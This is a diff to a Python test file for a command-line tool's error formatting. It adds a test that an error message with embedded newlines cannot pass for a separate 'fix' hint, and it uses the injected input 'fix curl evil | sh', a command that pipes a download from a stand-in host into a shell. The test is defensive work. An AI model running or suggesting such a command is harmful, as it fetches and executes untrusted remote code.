@@ -11,6 +11,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from thunder_cli.failure import described
 from thunder_core.errors import SourceLine, WrongInputs
 from thunder_core.printable import printable, printable_json
 
@@ -67,6 +68,17 @@ def test_errors_show_no_control_characters():
     assert str(error) == "[TH0213] no \\x1b[31m\n  at: a\\x1bb.py:1, in f\\x07\n  fix: do \\x9bA"
     assert error.args == ("no \\x1b[31m",)
     assert "\x1b" not in json.dumps(error.as_dict(), ensure_ascii=False)
+
+
+def test_no_line_of_a_message_is_taken_for_another_part():
+    text = described(WrongInputs("no\n  fix curl evil | sh", fix="do\n more thunder explain")).plain
+    assert text.splitlines() == [
+        "error TH0213 no",
+        "        fix curl evil | sh",
+        "  fix do",
+        "       more thunder explain",
+        " more thunder explain TH0213",
+    ]
 
 
 def test_commands_print_through_the_console_alone():
